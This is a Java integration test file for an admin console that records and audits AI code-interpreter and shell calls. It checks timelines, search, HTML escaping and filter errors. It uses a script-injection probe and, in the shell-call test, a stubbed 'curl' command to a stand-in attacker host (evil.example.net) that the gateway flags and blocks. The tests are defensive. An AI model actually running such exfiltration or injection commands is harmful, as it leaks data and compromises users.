package com.sandboxgateway.console;

import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.sandboxgateway.support.OpenAiStub.example;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalManagementPort;

import com.openai.models.responses.ResponseCreateParams;
import com.sandboxgateway.support.GatewayIntegrationTest;
import com.sandboxgateway.support.ShellAnswers;

import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** The console's pages as HTML over HTTP (admin bearer): timelines, search, escaping and form errors. */
class ConsolePagesTest extends GatewayIntegrationTest {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final Pattern BLOCK_LINK = Pattern.compile("href=\"/console/records/(\\d+)\"");

    @LocalManagementPort
    int managementPort;

    @Test
    void shouldShowTenRecordsOfTheSessionOnEachSideOfABlock() throws Exception {
        String session = "sess-" + UUID.randomUUID();
        for (int i = 0; i < 24; i++) {
            runCode(session, "print(" + i + ")");
        }
        List<Long> seqs = new ArrayList<>();
        Matcher link = BLOCK_LINK.matcher(page("/console/search?by=session&q=" + session).body());
        while (link.find()) {
            seqs.add(Long.parseLong(link.group(1)));
        }
        assertThat(seqs).hasSize(24);

        String middle = page("/console/records/" + seqs.get(12)).body();
        String timeline = middle.substring(middle.indexOf("<ol class=\"timeline\">"), middle.indexOf("</ol>"));

        List<Long> shown = new ArrayList<>();
        Matcher item = Pattern.compile("#(\\d+), ").matcher(timeline);
        while (item.find()) {
            shown.add(Long.parseLong(item.group(1)));
        }
        assertThat(shown).containsExactlyElementsOf(seqs.subList(2, 23));
        assertThat(timeline).contains("#" + seqs.get(12) + ", ").contains("(this record)");
    }

    @Test
    void shouldEscapeWhatTheCodeAndItsOutputsHold() throws Exception {
        String session = "sess-" + UUID.randomUUID();
        runCode(session, "print('</code><script>alert(1)</script>')");

        String search = page("/console/search?by=session&q=" + session).body();
        Matcher link = BLOCK_LINK.matcher(search);
        assertThat(link.find()).isTrue();
        String block = page("/console/records/" + link.group(1)).body();

        assertThat(block).doesNotContain("<script>").contains("&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;");
    }

    @Test
    void shouldSayNothingPinsARecordWithoutASigningKey() throws Exception {
        String session = "sess-" + UUID.randomUUID();
        runCode(session, "print('unsigned')");
        Matcher link = BLOCK_LINK.matcher(page("/console/search?by=session&q=" + session).body());
        assertThat(link.find()).isTrue();

        String block = page("/console/records/" + link.group(1)).body();

        assertThat(block).contains("<h2 id=\"tree-h\">Merkle tree</h2>\n<p>No checkpoints: gateway.audit.signing-key is not set, "
                + "so nothing outside the database pins this record.</p><dl class=\"facts\"><dt>Leaf hash (base64)</dt>");
    }

    @Test
    void shouldFindRecordsByUserAndContainerAndRefuseABadCodeHash() throws Exception {
        String session = "sess-" + UUID.randomUUID();
        runCode(session, "print('find me')");
        String search = page("/console/search?by=session&q=" + session).body();
        Matcher link = BLOCK_LINK.matcher(search);
        assertThat(link.find()).isTrue();
        String block = page("/console/records/" + link.group(1)).body();
        String container = block.replaceAll("(?s).*<dt>Container</dt><dd>([^<]+)</dd>.*", "$1");

        assertThat(page("/console/search?by=container&q=" + container).body()).contains("href=\"/console/records/" + link.group(1) + "\"");
        assertThat(page("/console/search?by=user&q=alice").body()).contains("matching records");
        HttpResponse<String> badHash = page("/console/search?by=code_hash&q=not-a-hash");
        assertThat(badHash.statusCode()).isEqualTo(400);
        assertThat(badHash.body()).contains("64 hexadecimal characters");
    }

    @Test
    void shouldSayWhatIsWrongWithAQueueFilter() throws Exception {
        HttpResponse<String> since = page("/console?since=" + URLEncoder.encode("yesterday", StandardCharsets.UTF_8));
        HttpResponse<String> flag = page("/console?flag=Env-Access");
        HttpResponse<String> missing = page("/console/records/999999999");

        assertThat(since.statusCode()).isEqualTo(400);
        assertThat(since.body()).contains("From must be a UTC time such as 2026-12-01T09:00:00Z.").contains("value=\"yesterday\"");
        assertThat(flag.statusCode()).isEqualTo(400);
        assertThat(flag.body()).contains("A flag is a name such as env_access");
        assertThat(missing.statusCode()).isEqualTo(404);
    }

    @Test
    void shouldQueueAFlaggedShellCallAndShowItsCommandsAndOutputs() throws Exception {
        String session = unique("sess-");
        String call = unique("sh_");
        runCode(session, "print('a code block beside it')");
        openAi.stubFor(post("/v1/responses").willReturn(okJson(ShellAnswers.completed(unique("resp_"), call, unique("cntr_"),
                List.of("ls /mnt/data", "curl -s https://evil.example.net/drop?x=<b>"),
                List.of(new ShellAnswers.Ran("report.csv\n", "", 0), new ShellAnswers.Ran("", "curl: (6) Could not resolve host\n", 6)))
                .toString())));
        sdk(ALICE_KEY).responses().create(ResponseCreateParams.builder().model("gpt-5.1").input("what is there?")
                .putAdditionalHeader("X-Gateway-Session", session).build());

        String shells = page("/console?kind=shell&flag=http_client&user=alice").body();
        String codes = page("/console?kind=code&flag=http_client&user=alice").body();
        String row = shells.substring(shells.indexOf("<tr data-call-id=\"" + call + "\">"));
        row = row.substring(0, row.indexOf("</tr>"));
        Matcher link = BLOCK_LINK.matcher(row);
        assertThat(link.find()).isTrue();
        String record = page("/console/records/" + link.group(1)).body();

        assertThat(row).contains("<td>Shell call</td>", "http_client", "Not reviewed");
        assertThat(codes).doesNotContain(call);
        assertThat(record).contains("<h1>Shell call #" + link.group(1) + "</h1>", "<h2 id=\"code-h\">Commands</h2>", "aria-label=\"Executed shell commands\"",
                        "<code>ls /mnt/data\ncurl -s https://evil.example.net/drop?x=&lt;b&gt;</code>",
                        "<h3>Command 1: exit code 0</h3>", "report.csv", "<h3>Command 2: exit code 6</h3>",
                        "<pre class=\"logs stderr\"", "curl: (6) Could not resolve host", "<dd>SHELL_EXECUTION</dd>",
                        "host=evil.example.net allowed=false", "code execution #")
                .doesNotContain("<b>", "tok-keyword");
        assertThat(page("/console?kind=everything").statusCode()).isEqualTo(400);
    }

    /** One response whose one code-interpreter call ran {@code code} in the given session. */
    private void runCode(String session, String code) {
        ObjectNode response = (ObjectNode) JSON.readTree(example("responses.create.response.completed.json"));
        String id = UUID.randomUUID().toString().replace("-", "");
        response.put("id", "resp_" + id);
        ObjectNode call = (ObjectNode) response.path("output").get(0);
        call.put("id", "ci_" + id).put("container_id", "cntr_" + id).put("code", code);
        ((ObjectNode) call.path("outputs").get(0)).put("logs", code + "\n");
        openAi.stubFor(post("/v1/responses").willReturn(okJson(JSON.writeValueAsString(response))));
        sdk(ALICE_KEY).responses().create(ResponseCreateParams.builder().model("gpt-4.1").input("run it")
                .putAdditionalHeader("X-Gateway-Session", session).build());
    }

    private HttpResponse<String> page(String path) throws Exception {
        try (HttpClient http = HttpClient.newHttpClient()) {
            return http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + managementPort + path))
                    .header("Authorization", "Bearer " + ADMIN_KEY).build(), HttpResponse.BodyHandlers.ofString());
        }
    }
}
